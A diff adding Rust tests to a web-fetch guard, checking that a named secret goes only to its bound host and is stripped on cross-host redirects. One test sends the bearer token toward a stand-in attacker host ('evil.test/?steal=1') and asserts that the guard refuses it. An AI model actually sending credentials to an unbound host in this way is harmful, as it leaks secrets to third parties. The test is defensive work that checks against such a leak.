@@ -803,3 +803,129 @@ async fn compressed_bodies_are_not_expanded() {
     assert_eq!(response.body.len(), 1024 * 1024);
     assert!(response.truncated);
 }
+
+/// Secrets by name, each with the one host it is bound to.
+struct Bound(Vec<(&'static str, &'static str, &'static str)>);
+
+impl cairn_web::Credentials for Bound {
+    fn for_host(
+        &self,
+        name: &str,
+        host: &str,
+    ) -> Result<cairn_vault::Secret, cairn_web::CredentialRefusal> {
+        match self.0.iter().find(|(n, _, _)| *n == name) {
+            Some((_, value, bound)) if *bound == host => {
+                Ok(cairn_vault::Secret::new((*value).to_string()))
+            }
+            Some((_, _, bound)) => Err(cairn_web::CredentialRefusal {
+                reason: format!("it is bound to {bound}"),
+            }),
+            None => Err(cairn_web::CredentialRefusal {
+                reason: "no such secret".into(),
+            }),
+        }
+    }
+}
+
+fn with_secrets(script: Arc<Script>) -> WebGuard {
+    scripted(loopback_ok(), script)
+        .with_credentials(Arc::new(Bound(vec![("github", "tok-123", "api.test")])))
+}
+
+async fn body_of(guard: &WebGuard, request: WebRequest) -> String {
+    match guard.fetch(request).await {
+        Ok(r) => String::from_utf8_lossy(&r.body).to_lowercase(),
+        Err(e) => panic!("fetch: {e}"),
+    }
+}
+
+// D5: the guard attaches a secret itself, per hop, only for the host it is bound to.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_secret_goes_only_to_its_bound_host() {
+    let echo = Server::start(|_| Reply::EchoHead).await;
+    let port = echo.addr.port();
+    let script = Arc::new(
+        Script::default()
+            .with("api.test", &[&["127.0.0.1"]])
+            .with("evil.test", &[&["127.0.0.1"]]),
+    );
+    let g = with_secrets(script);
+    let use_github = |placement| cairn_web::CredentialUse {
+        secret: "github".into(),
+        placement,
+    };
+
+    let bearer = WebRequest::get(format!("http://api.test:{port}/user"))
+        .with_credential(use_github(cairn_web::Placement::Bearer));
+    let seen = body_of(&g, bearer).await;
+    assert!(seen.contains("authorization: bearer tok-123"), "{seen}");
+
+    let header = WebRequest::get(format!("http://api.test:{port}/user"))
+        .with_credential(use_github(cairn_web::Placement::Header("X-Api-Key".into())));
+    let seen = body_of(&g, header).await;
+    assert!(seen.contains("x-api-key: tok-123"), "{seen}");
+
+    let basic = WebRequest::get(format!("http://api.test:{port}/user")).with_credential(
+        use_github(cairn_web::Placement::Basic {
+            username: "me".into(),
+        }),
+    );
+    let seen = body_of(&g, basic).await;
+    // base64("me:tok-123")
+    assert!(
+        seen.contains("authorization: basic bwu6dg9rlteymw=="),
+        "{seen}"
+    );
+
+    // In the query: sent, but the URL reported back does not carry it.
+    let query = WebRequest::get(format!("http://api.test:{port}/user?page=2"))
+        .with_credential(use_github(cairn_web::Placement::Query("key".into())));
+    let response = match g.fetch(query).await {
+        Ok(r) => r,
+        Err(e) => panic!("query: {e}"),
+    };
+    let seen = String::from_utf8_lossy(&response.body).into_owned();
+    assert!(seen.starts_with("GET /user?page=2&key=tok-123 "), "{seen}");
+    assert!(!response.final_url.as_str().contains("tok-123"));
+
+    // Another host: refused before any connection.
+    let before = echo.hits();
+    let evil = WebRequest::get(format!("http://evil.test:{port}/?steal=1"))
+        .with_credential(use_github(cairn_web::Placement::Bearer));
+    match g.fetch(evil).await {
+        Err(WebError::CredentialRefused { secret, host, .. }) => {
+            assert_eq!((secret.as_str(), host.as_str()), ("github", "evil.test"));
+        }
+        other => panic!("expected a refusal, got {other:?}"),
+    }
+    assert_eq!(echo.hits(), before, "evil.test received a connection");
+
+    // An unknown secret is refused the same way.
+    let unknown = WebRequest::get(format!("http://api.test:{port}/"))
+        .with_credential(cairn_web::CredentialUse::bearer("aws"));
+    assert!(matches!(
+        g.fetch(unknown).await,
+        Err(WebError::CredentialRefused { .. })
+    ));
+    assert_eq!(echo.hits(), before);
+}
+
+// D5: a redirect from the bound host to another goes on without the secret.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_redirect_to_another_host_loses_the_secret() {
+    let echo = Server::start(|_| Reply::EchoHead).await;
+    let landing = format!("http://evil.test:{}/landing", echo.addr.port());
+    let hop = Server::start(move |_| redirect(&landing)).await;
+    let script = Arc::new(
+        Script::default()
+            .with("api.test", &[&["127.0.0.1"]])
+            .with("evil.test", &[&["127.0.0.1"]]),
+    );
+    let g = with_secrets(script);
+    let request = WebRequest::get(format!("http://api.test:{}/go", hop.addr.port()))
+        .with_credential(cairn_web::CredentialUse::bearer("github"));
+    let seen = body_of(&g, request).await;
+    assert!(seen.starts_with("get /landing"), "{seen}");
+    assert!(!seen.contains("tok-123"), "{seen}");
+    assert_eq!(hop.hits(), 1);
+}
